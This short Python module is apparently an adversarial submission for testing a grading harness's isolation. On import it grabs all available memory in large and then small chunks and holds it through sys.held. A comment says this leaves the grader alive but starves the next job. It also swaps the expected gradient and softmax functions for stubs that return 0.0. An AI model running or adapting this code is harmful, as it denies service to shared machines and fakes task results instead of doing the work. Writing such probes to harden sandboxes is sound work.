"""Goal: take all memory while loading, and keep it.

Fires: harm
Without: separation
"""

import sys

# A namespace that nobody needs is collected some time; what a module holds is not.
held = sys.held = []
try:
    while True:
        held.append(bytearray(1 << 26))
except MemoryError:
    pass
try:
    while True:
        # So much is left that the grader lives, and too little for the next one.
        held.append(bytearray(1 << 22))
except MemoryError:
    pass

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
